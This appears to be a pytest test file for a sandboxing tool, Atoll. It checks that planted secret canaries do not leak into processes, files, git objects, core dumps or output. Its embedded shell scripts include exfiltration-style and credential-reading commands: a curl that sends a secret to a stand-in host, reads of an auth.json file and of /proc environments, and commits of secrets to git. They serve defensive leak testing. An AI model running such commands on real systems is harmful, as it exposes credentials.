"""A canary planted in each form of a secret is nowhere but in the processes that it is for.

A capsule uses every form, prints it, crashes with it and dumps core; it is snapshotted, forked,
rolled back, exported and shown; agents use two kinds of logins. Then every place that Atoll or the
machine could have kept it in is searched, in plain, in Base64 and in hexadecimal. The same search
finds what the control plants.
"""

from __future__ import annotations

import contextlib
import json
import os
import resource
import signal
import subprocess
import sys
import time
import zlib
from pathlib import Path

import pytest

from atoll.model.secretvalues import SecretSearch
from persons import as_user
from upstreams import Upstream

FORMS = ("VARIABLE", "ENV", "FILE", "BROKER", "KEY_LOGIN", "FILE_LOGIN")
LARGEST_BYTES = 64 << 20
WORLD_PLACES = ("/tmp", "/dev/shm", "/run", "/var/tmp", "/var/crash", "/var/lib/systemd/coredump")
ANYWHERE = ("core", "core.*")
"""Where the kernel puts a core dump of a process that works in `/`."""

BUSY = """
cat "$FILE_FILE" >/tmp/used; rm /tmp/used
echo "$VARIABLE $ENV"; echo "$VARIABLE" >&2; cat "$FILE_FILE"
curl -s --max-time 20 -H "X-Key: $BROKER" http://127.0.0.1:62001/broker/BROKER/use || echo no broker
curl -s --max-time 5 "http://refused.example.org/?key=$VARIABLE" >/dev/null || true
python3 -c 'import os; raise RuntimeError(os.environ["VARIABLE"] + os.environ["ENV"])' || true
ulimit -c unlimited 2>/dev/null || true
(cd /tmp; sh -c 'kill -SEGV $$'); sh -c 'kill -ABRT $$' || true
echo done
"""

AGENT = """
cat "$HOME/.filed/auth.json" 2>/dev/null; env | sort
key=${KEYED_API_KEY:-$(grep -o 'atollph[a-z0-9]*' "$HOME/.filed/auth.json")}
curl -sS --max-time 20 -H "X-Key: $key" "https://$1.example.org/use"
echo "$key" >key; cp "$HOME/.filed/auth.json" . 2>/dev/null
echo; echo '{"type": "say", "text": "I used it"}'; echo '{"type": "done"}'
"""
LOGINS = """
[notify]
command = "cat >>{notified}"
events = ["agent.finished", "agent.failed"]

[agents.keyed]
program = "sh"
events = "script"
commands = {{ headless = {words} }}

[[agents.keyed.logins]]
kind = "key"
title = "API key"
variable = "KEYED_API_KEY"
hosts = ["keyed.example.org"]
cure = "export KEYED_API_KEY=…"
upstream = "{upstream}"

[agents.filed]
program = "sh"
events = "script"
commands = {{ headless = {words} }}

[[agents.filed.logins]]
kind = "json"
title = "subscription"
file = "~/.filed/auth.json"
tokens = ["auth.access"]
hosts = ["filed.example.org"]
cure = "filed login"
upstream = "{upstream}"
"""


class Canaries:
    """A random value for each form, and the search for them."""

    def __init__(self):
        self.since = time.time() - 5
        self.values = {form: f"canary-{os.urandom(12).hex()}" for form in FORMS}
        pairs = [(form, value.encode()) for form, value in self.values.items()]
        self.search = SecretSearch(pairs)
        self.said: list[str] = []
        """What commands have printed on the host."""

    def find_in(self, content, where):
        found = self.search.find(content)
        return [] if found is None else [f"{found.secret} in {where}"]

    def in_processes(self):
        """The command lines of all processes, and the environments of those outside of capsules,
        where a variable belongs.
        """
        found = []
        for entry in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError):
                found += self.find_in(
                    read(f"/proc/{entry}/cmdline"), f"the command line of {entry}"
                )
                if os.readlink(f"/proc/{entry}/ns/pid") == os.readlink("/proc/self/ns/pid"):
                    place = f"the environment of {entry}"
                    found += self.find_in(read(f"/proc/{entry}/environ"), place)
        return found

    def in_files(self, *roots, since=0.0):
        """Files below these directories, their names, and the targets of links."""
        found = []
        for root in roots:
            for place, names, files in os.walk(root):
                # What others do meanwhile is not ours.
                names[:] = [name for name in names if not is_elsewhere(place, name, roots)]
                for name in (*names, *files):
                    path = os.path.join(place, name)
                    found += self.find_in(os.fsencode(path), f"the name of {path!r}")
                    with contextlib.suppress(OSError):
                        found += self.in_file(path, since)
        return found

    def in_file(self, path, since):
        status = os.lstat(path)
        if os.path.islink(path):
            return self.find_in(os.fsencode(os.readlink(path)), f"the link {path}")
        if not os.path.isfile(path) or max(status.st_ctime, status.st_mtime) < since:
            return []
        return self.find_in(read(path), path)

    def in_git(self, repository, *places):
        """Objects are compressed: a search of the files does not find what they contain."""
        found = []
        for place in (repository, *places):
            for path in Path(place).rglob("objects/??/*"):
                content = zlib.decompress(path.read_bytes())
                found += self.find_in(content, f"the object {path}")
            for pack in Path(place).rglob("*.pack"):
                listed = subprocess.run(
                    ["git", "-c", "safe.directory=*", "cat-file", "--batch-all-objects", "--batch"],
                    cwd=repository, capture_output=True, check=True,
                    env={**os.environ, "GIT_OBJECT_DIRECTORY": str(pack.parents[1])},
                )  # fmt: skip
                found += self.find_in(listed.stdout, f"the pack {pack}")
        return found

    def in_output(self):
        return [hit for text in self.said for hit in self.find_in(text.encode(), repr(text[:200]))]


def is_elsewhere(place, name, roots):
    foreign = name.startswith(("atoll-person-", "pytest-of-"))
    return foreign and place in WORLD_PLACES and os.path.join(place, name) not in roots


def read(path):
    with open(path, "rb") as file:
        return file.read(LARGEST_BYTES)


class Story:
    """A person whose commands on the host are all recorded."""

    def __init__(self, person, canaries):
        self.person, self.canaries = person, canaries

    def __call__(self, *words, code=0, **options):
        done = self.person.atoll(*words, check=False, **options)
        assert done.returncode == code, done.stdout + done.stderr
        self.canaries.said += [done.stdout, done.stderr]
        return done

    def busy(self, name):
        """Runs everything in the background: only a person at a terminal sees it live."""
        value = self.canaries.values["ENV"]
        words = ("run", name, "-d", "--env", "ENV", "--", "sh", "-c", BUSY)
        self(*words, env={"ENV": value})
        self("wait", name)
        return self("logs", name).stdout


@as_user
def test_a_canary_is_nowhere(person, upstream, wait_for):
    canaries = Canaries()
    atoll = Story(person, canaries)
    person.wants_daemon()
    give(atoll, canaries, upstream)
    atoll("new", "other")

    logged = atoll.busy("x")
    assert logged.count("[redacted]") >= 5, logged
    assert "used" in logged
    assert set(Upstream.keys) == {canaries.values["BROKER"]}
    shake(atoll, person, wait_for)
    login_file = work(atoll, canaries, upstream, wait_for)
    tell(atoll)

    # While a run has all of it in its processes.
    words = ("run", "x", "-d", "--env", "ENV", "--", "sh", "-c", "echo ready; exec sleep 600")
    atoll(*words, env={"ENV": canaries.values["ENV"]})
    wait_for(lambda: "ready" in atoll("logs", "x").stdout)
    assert canaries.in_processes() == []
    found = canaries.in_files(person.place, *WORLD_PLACES, since=canaries.since)
    assert found == [f"FILE_LOGIN in {login_file}"], "the owner's own"
    login_file.unlink()
    assert canaries.in_files(person.home) == []
    assert canaries.in_git(person.repo, person.home) == []
    assert look_from(person, "other", canaries) == []
    atoll("stop", "x")

    leak(atoll)
    atoll("rm", "other", "--force")
    assert canaries.in_git(person.repo) == []
    layers = person.home / "pools"
    kept = canaries.in_files(person.place, *WORLD_PLACES, since=canaries.since)
    # The agent's own file is in the capsule's own layer, and nowhere else.
    assert [hit for hit in kept if f"in {layers}" not in hit] == []
    assert core_dumps("/") == []
    assert canaries.in_output() == []


def core_dumps(place):
    return [path for pattern in ANYWHERE for path in Path(place).glob(pattern) if path.is_file()]


def work(atoll, canaries, upstream, wait_for):
    """Agents with two kinds of logins, and everything that shows them; returns the file of one."""
    person, values = atoll.person, canaries.values
    notified = person.place / "notified"
    settings = Path(person.env["XDG_CONFIG_HOME"]) / "atoll" / "config.toml"
    settings.parent.mkdir(parents=True, exist_ok=True)
    login_file = Path(person.env["HOME"]) / ".filed" / "auth.json"
    login = json.dumps({"auth": {"access": values["FILE_LOGIN"]}})
    person.write({login_file.name: login}, root=login_file.parent)
    for agent, form in (("keyed", "KEY_LOGIN"), ("filed", "FILE_LOGIN")):
        words = json.dumps(["sh", "-c", AGENT, "sh", agent, "{prompt}"])
        settings.write_text(LOGINS.format(notified=notified, upstream=upstream, words=words))
        Upstream.keys.clear()
        env = {"KEYED_API_KEY": values["KEY_LOGIN"]}
        atoll("spawn", agent, "use it", "--name", agent, env=env)
        watched = atoll("watch", agent)
        assert "I used it" in watched.stdout, watched
        assert "finished" in watched.stderr, watched
        assert set(Upstream.keys) == {values[form]}, watched
        for shown in (("agents",), ("transcript", agent), ("secret", "ls")):
            atoll(*shown)
            atoll(*shown, "--json")
        atoll("transcript", agent, "--html")
        atoll("logs", agent)
        # What it has is worth nothing elsewhere, and may be exported.
        assert "atollph" in person.git("show", f"atoll/{agent}:key")
    program = "import atoll; print(*atoll.open_project('.').events(), sep='\\n')"
    events = person.run(sys.executable, "-c", program).stdout
    assert "agent.finished" in events
    canaries.said.append(events)
    wait_for(lambda: notified.exists() and notified.read_text().count("agent.finished") == 2)
    canaries.said.append(notified.read_text())
    return login_file


def give(atoll, canaries, upstream):
    values = canaries.values
    atoll("new", "x")
    # Once from the owner's environment: the daemon, which is started then, has none of it.
    atoll("secret", "set", "VARIABLE", "--from-env", env={"VARIABLE": values["VARIABLE"]})
    atoll("secret", "set", "FILE", "--as-file", "~/.config/key", input=values["FILE"])
    broker = ("--broker", "api.example.org", "--upstream", upstream)
    atoll("secret", "set", "BROKER", *broker, input=values["BROKER"])
    atoll("secret", "set", "VARIABLE", input=values["VARIABLE"])
    for name in ("VARIABLE", "FILE", "BROKER"):
        atoll("secret", "grant", name, "x")


def shake(atoll, person, wait_for):
    """Snapshots, forks and rolls back; kills every process that has had a value."""
    atoll("snapshot", "x", "-m", "with secrets")
    atoll("fork", "x", "y")
    atoll.busy("y")
    atoll("rm", "y", "--force")
    words = ("run", "x", "-d", "--env", "ENV", "--", "sh", "-c", "echo ready; exec sleep 600")
    for number in (signal.SIGKILL, signal.SIGSEGV):
        atoll(*words, env={"ENV": atoll.canaries.values["ENV"]})
        wait_for(lambda: "ready" in atoll("logs", "x").stdout)
        for pid in keepers(person):
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, number)
        atoll("wait", "x", code=128 + signal.SIGKILL)
    os.kill(daemon_worker(person), signal.SIGSEGV)
    atoll("rollback", "x")
    wait_for(lambda: "used" in atoll.busy("x"))


def keepers(person):
    """The holder of the capsule's view, and the minders of its runs."""
    [directory] = person.home.glob("projects/*/x")
    ask = "import sys; from atoll.host.view_client import ask; "
    ask += "print(ask(sys.argv[1], {'ping': True})[0]['pid'])"
    holder = int(person.run(sys.executable, "-c", ask, directory).stdout)
    children = read(f"/proc/{holder}/task/{holder}/children").split()
    return [*map(int, children), holder]


def daemon_worker(person):
    [watcher] = [
        int(entry)
        for entry in filter(str.isdigit, os.listdir("/proc"))
        if str(person.home).encode() in read_all(f"/proc/{entry}/cmdline")
        and read_all(f"/proc/{entry}/comm").strip() == b"atoll-daemon"
        and read_all(f"/proc/{entry}/task/{entry}/children").split()
    ]
    return int(read(f"/proc/{watcher}/task/{watcher}/children").split()[0])


def read_all(path):
    with contextlib.suppress(OSError):
        return read(path)
    return b""


def tell(atoll):
    """Everything that shows something."""
    for words in (
        ("ls",), ("show", "x"), ("ps", "x"), ("logs", "x"), ("network", "x"), ("snapshots", "x"),
        ("diff", "x"), ("secret", "ls"), ("secret", "audit"), ("ports", "x"),
    ):  # fmt: skip
        atoll(*words)
        atoll(*words, "--json")
    value = atoll.canaries.values["ENV"]
    atoll("run", "x", "--env", f"A-B={value}", "--", "true", code=2)
    atoll("secret", "set", "NAME", value, code=2)
    atoll("secret", "set", value, input="x" * 20, code=2)
    atoll("-v", "run", "x", "--env", "ENV", "--", "true", env={"ENV": value})
    atoll("daemon", "logs")


def look_from(person, name, canaries):
    """What another capsule sees, by its own eyes."""
    script = (
        "cat /proc/*/environ /proc/*/cmdline 2>/dev/null; env; ls -laR /run /tmp /dev/shm; "
        'cat $(find /run /tmp /dev/shm "$HOME" . /etc -type f -size -1000k) 2>/dev/null; true'
    )
    said = person.atoll("run", name, "--", "sh", "-c", script, text=False).stdout
    assert len(said) > 1000
    return canaries.find_in(said, "another capsule")


def leak(atoll):
    """The agent commits what it was given; every way out refuses it."""
    for name, script in (
        ("VARIABLE", 'echo "$VARIABLE" >leak'),
        ("FILE", 'base64 -w 20 "$FILE_FILE" >leak'),
    ):
        commit = f"{script}; git add leak; git commit -qm work"
        done = atoll("run", "x", "--", "sh", "-euc", commit)
        assert f"(`leak`, line 1) contains the secret `{name}`" in done.stderr
        for words in (("export", "x"), ("export", "x", "--all", "--json")):
            refused = atoll(*words, code=4)
            assert f"contains the secret `{name}`" in refused.stdout + refused.stderr
        atoll("run", "x", "--", "git", "reset", "-q", "--hard", "HEAD~1")


def test_the_search_finds_a_core_dump(tmp_path):
    """The control: where a crash leaves one, it has the value, and the search finds it."""
    canaries = Canaries()
    (tmp_path / "core.123").write_bytes(b"\x7fELF" + canaries.values["ENV"].encode())
    assert core_dumps(tmp_path) == [tmp_path / "core.123"]
    assert len(canaries.in_files(tmp_path)) == 1
    (tmp_path / "core.123").unlink()
    pattern = Path("/proc/sys/kernel/core_pattern").read_text().strip()
    _, hard = resource.getrlimit(resource.RLIMIT_CORE)
    if pattern != "core" or hard != resource.RLIM_INFINITY:
        pytest.skip(f"the kernel does not write core dumps to the directory ({pattern})")
    crash = ["sh", "-c", "ulimit -c unlimited; kill -SEGV $$"]
    subprocess.run(crash, cwd=tmp_path, env={"KEY": canaries.values["ENV"]}, check=False)
    [dump] = core_dumps(tmp_path)
    assert canaries.in_files(tmp_path) == [f"ENV in {dump}"]


def test_the_search_finds_what_is_planted(tmp_path, repo, git):
    """The control."""
    canaries = Canaries()
    value = canaries.values["FILE"]
    assert canaries.in_files(tmp_path) == canaries.in_git(repo) == []
    (tmp_path / "plain").write_text(f"x{value}")
    (tmp_path / value).touch()
    (tmp_path / "link").symlink_to(f"/nowhere/{value}")
    (tmp_path / "hex").write_text(f"x{value}".encode().hex())
    found = canaries.in_files(tmp_path)
    assert {text.rsplit("/", 1)[1].strip("'") for text in found} == {"plain", value, "link", "hex"}

    (repo / "leak").write_text(value)
    git("add", "leak", cwd=repo)
    assert len(canaries.in_git(repo)) == 1
    git("commit", "--quiet", "-m", "leak", cwd=repo)
    git("gc", "--quiet", cwd=repo)
    assert "the pack" in canaries.in_git(repo)[0]

    shown = Path("/dev/shm", f"atoll-canary-{os.getpid()}")
    shown.write_text(value)
    try:
        assert canaries.in_files("/dev/shm", since=canaries.since) == [f"FILE in {shown}"]
    finally:
        shown.unlink()
    sleeper = [sys.executable, "-c", "input()", value]
    with subprocess.Popen(sleeper, stdin=subprocess.PIPE, env={"KEY": value}) as child:
        found = canaries.in_processes()
        child.communicate(b"\n")
    assert found == [
        f"FILE in the command line of {child.pid}", f"FILE in the environment of {child.pid}",
    ]  # fmt: skip
    canaries.said.append(f"it is {value}")
    assert len(canaries.in_output()) == 1
